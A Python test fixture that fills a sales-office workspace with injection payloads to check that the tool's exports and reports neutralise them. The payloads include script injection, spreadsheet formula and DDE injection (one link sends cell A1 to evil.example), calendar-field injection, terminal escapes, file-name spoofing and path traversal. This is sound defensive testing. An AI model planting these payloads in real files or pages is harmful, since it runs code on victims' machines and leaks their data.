"""A small office whose every text holds something that would do harm if it came alive."""

from itertools import cycle

from tests.method.office import (
    REPS,
    SECOND_REP,
    START,
    all_buyers,
    customers,
    deal,
    held,
    make_office,
    promise,
)
from tests.method.reading import runner

RAN = "window.ran=1"
PAYLOADS = (
    "</script><script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=window.ran=1>",
    "\"><b onmouseover='window.ran=1'>",
    "javascript:window.ran=1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "one\r\nATTENDEE:mailto:evil@example.org\r\nEND:VEVENT",
    "one\nBEGIN:VALARM\nACTION:EMAIL",
    "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "\u202egnp.exe\u2066",
    "line\u2028separator\u2029x",
    "${window.ran=1} {0} {name} {x.__class__} {{}}",
    "%s %n %(name)s %",
    "]]><!-- --!> <![CDATA[",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "'; window.ran=1; //",
    "`window.ran=1`",
    "__proto__",
    "constructor",
    "@@data@@ @@title@@ @@policy@@",
    "🏪 王小明 Ñ é\u0301",
)
IDS = (
    "__proto__",
    "constructor",
    "../../x",
    "=1+1",
    "CON",
    "<b>x</b>",
    "{0}",
    "%s",
    "toString",
    "C'1",
    "🏪",
    "a b",
)
SETTINGS = """
[map]
tiles_attribution = "<img src=x onerror=window.ran=1>"
"""


def nasty_office(folder):
    """Write the workspace: customers, reps, contacts, deals, promises and a call log full of payloads."""
    words = cycle(PAYLOADS)
    shops = [
        one | {"customer_id": IDS[number], "segment": next(words), "url": next(words), **_texts(words)}
        for number, one in enumerate(customers("AAABBBCCCDDD"))
    ]
    ids = {f"C{number:02d}": one["customer_id"] for number, one in enumerate(shops, 1)}
    reps = [{**one, "name": next(words), "email": next(words)} for one in (*REPS, SECOND_REP)]
    contacts = [one | {"name": next(words)} for one in all_buyers(1)]
    deals = [deal(1, "best_few", value=9000, probability=60), deal(2, "in"), deal(9, "above")]
    log = [
        held(n, "2026-12-29", "09:00", "09:30", purpose=next(words), key_points=next(words)) for n in (3, 4)
    ]
    rows = {
        "customers": shops,
        "reps": reps,
        "contacts": [_at(one, ids) | {"frequency": "1/2w", "duration_min": 15} for one in contacts],
        "opportunities": [_at(one, ids) | {"name": next(words)} for one in deals],
        "promises": [_at(promise(1, 2, "2027-01-08"), ids) | {"promise": next(words)}],
        "call_log": [_at(one, ids) for one in log],
        "appointments": [
            {"appointment_id": "<i>A1</i>", "rep_id": "R1", "date": START, "start": "10:00", "end": "11:00",
             "kind": "exact", "title": next(words), "address": next(words), "lat": 48.2, "lon": 16.38}
        ],
    }  # fmt: skip
    return make_office(folder, weeks=2, settings=SETTINGS, **rows)


def _texts(words):
    return {name: next(words) for name in ("name", "address", "phone", "email", "notes")}


def _at(row, ids):
    return row | {"customer_id": ids[row["customer_id"]]}


TODAY = ("--today", START)


def told_by_all(office):
    """Have everything written and said, and return what was said by command."""
    lines = {
        "check": ("check", office, *TODAY),
        "plan": ("plan", office, *TODAY, "--effort", "quick"),
        "publish": ("publish", office),
        "export": ("export", office, "--to", office / "out"),
        "gpx": ("export", office, "--to", office / "gpx", "--as", "gpx"),
        "links": ("export", office, "--to", office / "links", "--as", "links"),
        "territories": ("territories", office, *TODAY),
        "files": ("customers", "file", "--workspace", office, "--all", *TODAY),
        "sheets": ("reports", "sheets", office, *TODAY),
        "control": (
            "control",
            office,
            "--today",
            "2027-01-18",
            "--from",
            START,
            "--to",
            "2027-01-17",
            "--out",
            office / "control",
        ),
        "funnel": ("funnel", office, *TODAY),
        "workload": ("workload", office, *TODAY),
        "record": ("record", office, *TODAY),
        "review": ("review", office),
        "review as JSON": ("review", office, "--json"),
    }
    return {name: runner(*words) for name, words in lines.items()}
